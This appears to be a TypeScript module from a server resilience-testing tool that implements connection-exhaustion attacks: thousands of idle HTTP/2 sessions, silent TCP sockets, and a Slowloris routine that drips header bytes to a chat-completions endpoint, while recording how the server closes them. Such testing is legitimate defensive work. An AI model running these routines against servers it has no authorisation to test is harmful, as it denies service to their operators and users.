import { connect, type Socket } from "node:net";
import { CONNECTION_PREFACE, Flags, FrameReader, FrameType, settingsAck, settingsFrame } from "./frames.js";
import type { Target } from "./raw-h2-connection.js";

/** Attacks that hold many connections open and send (almost) nothing on them. */

/** One held socket: when it opened and whether the server has closed it. */
interface Held {
  socket: Socket;
  openedAt: number;
  /** ms after opening when the server closed it (FIN or reset). */
  closedAfterMs?: number;
  goaway?: number;
}

export interface HoldSummary {
  /** Connections asked for, opened, and refused or failed at connect. */
  planned: number;
  opened: number;
  failed: number;
  /** Closed by the server so far, and still open. */
  closedByServer: number;
  open: number;
  /** Of those closed by the server: ones that got a GOAWAY first, and the median ms to close. */
  goaways: number;
  medianCloseMs?: number;
  firstError?: string;
}

/** Many connections held open at once; `release()` closes what the server left open. */
export class SocketHold {
  private readonly held: Held[] = [];
  private failed = 0;
  private firstError: string | undefined;
  private released = false;
  private readonly timers: NodeJS.Timeout[] = [];

  constructor(private readonly planned: number) {}

  /** Connects one socket; `opened` runs once it is connected. */
  add(target: Target, opened: (held: Held) => void): Promise<void> {
    return new Promise((resolve) => {
      const socket = connect({ host: target.host, port: target.port });
      const held: Held = { socket, openedAt: performance.now() };
      socket.setNoDelay(true);
      socket.once("connect", () => {
        this.held.push(held);
        opened(held);
        resolve();
      });
      socket.on("error", (error) => {
        if (!this.held.includes(held)) {
          this.failed++;
          this.firstError ??= error.message;
          resolve();
        }
      });
      socket.once("close", () => {
        if (!this.released) held.closedAfterMs ??= performance.now() - held.openedAt;
      });
    });
  }

  /** Runs `tick` on every still-open socket every `ms`, until release. */
  every(ms: number, tick: (socket: Socket) => void): void {
    const timer = setInterval(() => {
      for (const { socket } of this.held) if (!socket.destroyed) tick(socket);
    }, ms);
    this.timers.push(timer);
  }

  summary(): HoldSummary {
    const closed = this.held.filter((h) => h.closedAfterMs !== undefined);
    const times = closed.map((h) => h.closedAfterMs as number).sort((a, b) => a - b);
    return {
      planned: this.planned,
      opened: this.held.length,
      failed: this.failed,
      closedByServer: closed.length,
      open: this.held.length - closed.length,
      goaways: closed.filter((h) => h.goaway !== undefined).length,
      ...(times.length > 0 && { medianCloseMs: times[times.length >> 1] }),
      ...(this.firstError !== undefined && { firstError: this.firstError }),
    };
  }

  release(): void {
    this.released = true;
    for (const timer of this.timers) clearInterval(timer);
    for (const { socket } of this.held) socket.destroy();
  }
}

export interface HoldOptions {
  /** Connects in flight at once: a burst of thousands would overflow the listen backlog. Default 200. */
  concurrency?: number;
}

/**
 * `count` connections that open HTTP/2 properly (preface, SETTINGS, an ACK of the server's) and then
 * say nothing, with no stream: each holds a session, its buffers and a file descriptor.
 */
export async function idleHttp2Connections(
  target: Target,
  count: number,
  options: HoldOptions = {},
): Promise<SocketHold> {
  return openAll(target, count, options, (held) => {
    held.socket.write(Buffer.concat([CONNECTION_PREFACE, settingsFrame()]));
    const reader = new FrameReader();
    held.socket.on("data", (chunk: Buffer) => {
      for (const frame of reader.push(chunk)) {
        if (frame.type === FrameType.SETTINGS && (frame.flags & Flags.ACK) === 0)
          held.socket.write(settingsAck());
        if (frame.type === FrameType.GOAWAY) held.goaway ??= frame.payload.readUInt32BE(4);
      }
    });
  });
}

/** `count` TCP connections that never send a byte. */
export async function silentConnections(
  target: Target,
  count: number,
  options: HoldOptions = {},
): Promise<SocketHold> {
  return openAll(target, count, options, (held) => held.socket.resume());
}

export interface SlowlorisOptions extends HoldOptions {
  /** One more header byte on each socket this often. Default 2 s. */
  intervalMs?: number;
}

/**
 * Slowloris on HTTP/1.1: a request line and the start of a header, then one byte of the header
 * every `intervalMs`, so the headers never end and each socket holds a parser and its buffers.
 */
export async function slowloris(
  target: Target,
  count: number,
  { intervalMs = 2_000, ...options }: SlowlorisOptions = {},
): Promise<SocketHold> {
  const hold = await openAll(target, count, options, (held) => {
    held.socket.resume();
    held.socket.write(`POST /v1/chat/completions HTTP/1.1\r\nHost: ${target.host}\r\nX-Slow: `);
  });
  hold.every(intervalMs, (socket) => socket.write("a"));
  return hold;
}

async function openAll(
  target: Target,
  count: number,
  { concurrency = 200 }: HoldOptions,
  opened: (held: Held) => void,
): Promise<SocketHold> {
  const hold = new SocketHold(count);
  let next = 0;
  const worker = async () => {
    while (next < count) {
      next++;
      await hold.add(target, opened);
    }
  };
  await Promise.all(Array.from({ length: Math.min(concurrency, count) }, worker));
  return hold;
}
